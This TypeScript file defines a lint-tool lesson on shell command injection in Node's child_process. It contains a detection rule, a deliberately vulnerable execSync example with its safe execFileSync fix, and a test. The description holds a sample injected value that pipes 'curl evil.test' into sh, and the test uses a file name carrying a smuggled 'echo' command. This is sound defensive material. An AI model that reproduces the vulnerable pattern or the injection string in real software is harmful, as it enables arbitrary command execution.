import type { Lesson } from '@feedback/schema';

/** What puts no foreign text into a command: quoted for the shell, a constant, a number, or Node itself. */
const HARMLESS =
  '(?i)quote|escape|process\\.(pid|execPath|ppid)|\\.length\\b|^\\$?\\{?\\s*(Number|parseInt)\\(';
const CHOICE = '\\? *(\'[^\']*\'|"[^"]*") *: *(\'[^\']*\'|"[^"]*") *\\}$';
const CONSTANT = '^(\\$\\{)?\\s*[A-Z][A-Z0-9_]*\\s*\\}?$';

export const commandTemplate: Lesson = {
  pattern_id: 'builtin:command_template',
  name: 'command_template',
  description:
    'A value is put into a command line that a shell reads, so a space, quote or semicolon in it becomes syntax. ' +
    'A branch called "x; curl evil.test | sh" is a command. Use execFile or spawn with a list of arguments.',
  bad_example: `import { execSync } from 'node:child_process';

export function firstLine(path: string): string {
  return execSync(\`head -n 1 \${path}\`, { encoding: 'utf8', stdio: 'pipe' }).trimEnd();
}
`,
  good_example: `import { execFileSync } from 'node:child_process';

export function firstLine(path: string): string {
  return execFileSync('head', ['-n', '1', path], { encoding: 'utf8', stdio: 'pipe' }).trimEnd();
}
`,
  test_coverage: `import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';

test('a path is no part of the command', () => {
  const path = join(mkdtempSync(join(tmpdir(), 'lines-')), 'my notes; echo hacked.txt');
  writeFileSync(path, 'one\\ntwo\\n');
  assert.equal(firstLine(path), 'one');
});
`,
  severity: 'critical',
  language: 'typescript',
  tags: [
    'child_process',
    'exec',
    'execSync',
    'spawn',
    'execFile',
    'shell',
    'command injection',
    'template string',
    'git',
    'security',
  ],
  rule: {
    language: 'typescript',
    rule: {
      kind: 'call_expression',
      all: [
        {
          any: [
            {
              has: {
                field: 'function',
                regex: '^((child_?[pP]rocess|cp)\\.)?(exec|execSync|execAsync|execPromise)$',
              },
            },
            {
              all: [
                {
                  has: {
                    field: 'function',
                    regex: '^((child_?[pP]rocess|cp)\\.)?(spawn|spawnSync|execa|execFile)$',
                  },
                },
                { has: { field: 'arguments', regex: '\\bshell:\\s*true\\b' } },
              ],
            },
          ],
        },
        {
          has: {
            field: 'arguments',
            has: { nthChild: 1, any: [{ matches: 'template' }, { matches: 'joined' }] },
          },
        },
        {
          inside: {
            kind: 'program',
            stopBy: 'end',
            has: {
              any: [
                { kind: 'import_statement' },
                { kind: 'lexical_declaration' },
                { kind: 'variable_declaration' },
              ],
              regex: 'child_process|execa|zx',
            },
          },
        },
      ],
    },
    utils: {
      template: {
        kind: 'template_string',
        has: {
          kind: 'template_substitution',
          not: { any: [{ regex: HARMLESS }, { regex: CONSTANT }, { regex: CHOICE }] },
        },
      },
      joined: {
        kind: 'binary_expression',
        all: [
          { has: { field: 'operator', regex: '^\\+$' } },
          { has: { stopBy: 'end', kind: 'string' } },
          {
            any: [
              {
                has: {
                  field: 'right',
                  not: { any: [{ kind: 'string' }, { regex: HARMLESS }, { regex: CONSTANT }] },
                },
              },
              {
                has: {
                  field: 'left',
                  kind: 'binary_expression',
                  has: {
                    field: 'right',
                    not: { any: [{ kind: 'string' }, { regex: HARMLESS }, { regex: CONSTANT }] },
                  },
                },
              },
            ],
          },
        ],
      },
    },
  },
  tier: 'proved_check',
  matches: {
    rule_ids: [
      'security/detect-child-process',
      'typescript:S4721',
      'javascript:S4721',
      'typescript:S2076',
      'javascript:S2076',
      'js/command-line-injection',
      'js/shell-command-constructed-from-input',
    ],
    messages: ['Found child_process.exec() with non Literal first argument'],
  },
  status: 'active',
  provenance: {
    origin: 'builtin',
    note: 'Critical: whoever chooses the value runs commands on the machine; without malice, a space in a path is enough to delete the wrong file. Constants, numbers and quoted values are left out.',
  },
};
